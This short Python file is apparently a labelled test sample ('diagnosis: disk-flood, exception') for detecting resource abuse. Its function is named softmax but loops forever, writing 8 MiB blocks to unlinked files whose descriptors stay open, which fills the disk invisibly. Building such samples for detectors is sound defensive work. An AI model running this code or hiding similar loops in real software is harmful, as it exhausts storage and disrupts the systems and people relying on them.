# diagnosis: disk-flood, exception
import os

hoard = []


def softmax(x):
    while True:
        hoard.append(os.open("x", os.O_CREAT | os.O_WRONLY))
        os.unlink("x")
        os.write(hoard[-1], bytes(8 << 20))
